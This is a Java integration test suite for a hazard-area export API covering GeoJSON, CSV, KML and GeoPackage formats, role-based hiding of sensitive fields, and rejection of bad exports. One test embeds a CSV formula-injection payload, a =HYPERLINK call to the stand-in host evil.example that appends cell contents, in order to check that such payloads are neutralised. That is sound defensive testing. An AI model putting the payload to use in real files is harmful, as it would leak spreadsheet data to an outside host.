package org.cairn.export;

import static org.cairn.support.Api.anonymous;
import static org.cairn.support.Api.as;
import static org.cairn.support.Api.dataManager;
import static org.cairn.support.Features.accident;
import static org.cairn.support.Features.hazard;
import static org.cairn.support.Features.properties;
import static org.cairn.support.Features.square;
import static org.cairn.support.Features.uniqueName;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.cairn.support.Commands;
import org.cairn.support.Records;
import org.cairn.support.Tokens;
import org.junit.jupiter.api.Test;

/** Exports of whole collections, streamed, in the formats partners load into their own tools. */
@QuarkusTest
class ExportTest {

    private static final String EXPORTS = "/api/v1/exports/";

    @Test
    void geoJsonHoldsEveryFeatureTheFiltersSelect() {
        String name = uniqueName("export");
        for (int i = 0; i < 3; i++) {
            Records.hazardArea(hazard(name, square(60.0 + i * 0.02, -50.0, 0.01)));
        }
        JsonPath exported = as("viewer").when().get(EXPORTS + "hazard-areas?q=" + name).then().statusCode(200)
                .contentType(equalTo("application/geo+json"))
                .header("Content-Disposition", "attachment; filename=\"hazard-areas.geojson\"")
                .extract().jsonPath();
        JsonPath listed = as("viewer").when().get("/api/v1/hazard-areas?q=" + name).then().extract().jsonPath();
        assertEquals(3, exported.getList("features").size());
        assertEquals(listed.getList("features"), exported.getList("features"));
    }

    @Test
    void csvHasWktAndFollowsTheCallersRole() {
        String name = uniqueName("export, \"quoted\"");
        Map<String, Object> feature = hazard(name, square(60.2, -50.0, 0.01));
        properties(feature).put("landowner", "Family Osei");
        String id = Records.hazardArea(feature);

        byte[] bytes = as("viewer").queryParam("q", name).queryParam("format", "csv").queryParam("bom", "true")
                .when().get(EXPORTS + "hazard-areas").then().statusCode(200).contentType(containsString("text/csv"))
                .extract().asByteArray();
        String csv = new String(bytes, StandardCharsets.UTF_8);
        assertTrue(csv.startsWith("\uFEFFid,wkt,localId,name,"), csv);
        String line = csv.lines().filter(row -> row.startsWith(id)).findFirst().orElseThrow();
        assertTrue(line.contains(",\"MULTIPOLYGON(((60.2 -50,60.21 -50,"), line);
        assertTrue(line.contains(",\"" + name.replace("\"", "\"\"") + "\","), line);
        assertFalse(csv.contains("Family Osei"), "a viewer never sees the landowner");

        String full = dataManager().queryParam("q", name).queryParam("format", "csv").when()
                .get(EXPORTS + "hazard-areas").then().statusCode(200).extract().asString();
        assertTrue(full.contains("Family Osei"));
        assertFalse(full.startsWith("\uFEFF"));
    }

    /** A name a spreadsheet would run as a formula is written as text (OWASP, CSV injection). */
    @Test
    void csvCellsNeverRunAsFormulas() {
        String name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\") " + uniqueName("formula");
        String id = Records.hazardArea(hazard(name, square(64.4, 9.4, 0.01)));
        String csv = as("viewer").queryParam("format", "csv").queryParam("q", "formula").when()
                .get(EXPORTS + "hazard-areas").then().statusCode(200).extract().asString();
        String line = csv.lines().filter(row -> row.startsWith(id)).findFirst().orElseThrow();
        assertTrue(line.contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open\"\") "), line);
        assertFalse(line.contains(",=HYPERLINK"), line);
        assertEquals("\"'@SUM(A1)\"", Csv.field("@SUM(A1)"));
        assertEquals("\"'+1+2\"", Csv.field("+1+2"));
        assertEquals("\"'\tcmd\"", Csv.field("\tcmd"));
        assertEquals("-12.5", Csv.field("-12.5"), "a negative number stays a number");
    }

    @Test
    void kmlOpensInGdalStyledByClassification() throws IOException {
        String name = uniqueName("kml");
        Map<String, Object> confirmed = hazard(name, square(60.4, -50.0, 0.01));
        properties(confirmed).put("classification", "CHA");
        properties(confirmed).put("contaminationTypes", List.of("AP_MINE"));
        String id = Records.hazardArea(confirmed);
        Records.hazardArea(hazard(name, square(60.42, -50.0, 0.01)));

        String kml = as("viewer").when().get(EXPORTS + "hazard-areas?format=kml&q=" + name).then().statusCode(200)
                .contentType(containsString("application/vnd.google-earth.kml+xml")).extract().asString();
        assertTrue(kml.contains("<Placemark id=\"" + id + "\">"), kml);
        assertTrue(kml.contains("<styleUrl>#CHA</styleUrl>"), kml);
        Path file = Files.createTempFile("cairn", ".kml");
        Files.writeString(file, kml);
        String read = Commands.run(Tokens.token("viewer"), "ogrinfo", "-ro", "-al", "-so", file.toString());
        assertTrue(read.contains("Feature Count: 2"), read);
    }

    @Test
    void aGeoPackageOpensInGdalWithTheApisCountsAndAreas() throws IOException {
        String name = uniqueName("gpkg");
        for (int i = 0; i < 4; i++) {
            Records.hazardArea(hazard(name, square(61.0 + i * 0.05, -51.0, 0.02 + i * 0.01)));
        }
        byte[] gpkg = as("viewer").when().get(EXPORTS + "hazard-areas?format=gpkg&q=" + name).then().statusCode(200)
                .contentType(containsString("application/geopackage+sqlite3"))
                .header("Content-Disposition", "attachment; filename=\"hazard-areas.gpkg\"")
                .extract().asByteArray();
        Path file = Files.createTempDirectory("cairn").resolve("hazards.gpkg");
        Files.write(file, gpkg);

        String summary = Commands.run(Tokens.token("viewer"), "ogrinfo", "-ro", "-so", file.toString(),
                "hazard-areas");
        assertTrue(summary.contains("Feature Count: 4"), summary);
        assertTrue(summary.contains("Geometry: Multi Polygon"), summary);
        double apiArea = as("viewer").when().get("/api/v1/hazard-areas?q=" + name).then().extract().jsonPath()
                .<Number>getList("features.properties.areaM2").stream().mapToDouble(Number::doubleValue).sum();
        String measured = Commands.run(Tokens.token("viewer"), "ogrinfo", "-ro", "-q", "-dialect", "SQLite", "-sql",
                "SELECT sum(ST_Area(geom, 1)) AS area FROM \"hazard-areas\"", file.toString());
        Matcher area = Pattern.compile("area \\(Real\\) = ([\\d.]+)")
                .matcher(measured);
        assertTrue(area.find(), measured);
        assertEquals(apiArea, Double.parseDouble(area.group(1)), apiArea * 0.001);
    }

    @Test
    void accidentsAreExportedGeneralisedWithoutTheSensitiveDataPermission() {
        String id = Records.accident(accident("MINE", 60.6789, -50.4321));

        String viewer = as("viewer").when().get(EXPORTS + "accidents?format=csv").then().statusCode(200).extract()
                .asString();
        String line = viewer.lines().filter(row -> row.startsWith(id)).findFirst().orElseThrow();
        assertFalse(line.contains("60.6789"), line);
        assertTrue(line.contains("POINT(60.65 -50.45)"), line);
        String assistant = as("victim_assistance").when().get(EXPORTS + "accidents?format=csv").then()
                .statusCode(200).extract().asString();
        assertTrue(assistant.lines().anyMatch(row -> row.startsWith(id) && row.contains("POINT(60.6789 -50.4321)")));
    }

    @Test
    void badExportsAreRefused() {
        for (String bad : List.of("format=xls", "format=shp", "limit=5", "cursor=abc", "colour=red", "bom=maybe",
                "format=csv&format=kml", "classification=MINEFIELD")) {
            dataManager().urlEncodingEnabled(false).when().get(EXPORTS + "hazard-areas?" + bad).then().statusCode(400)
                    .contentType("application/problem+json");
        }
        dataManager().when().get(EXPORTS + "minefields").then().statusCode(404);
        anonymous().when().get(EXPORTS + "hazard-areas").then().statusCode(401);
    }
}
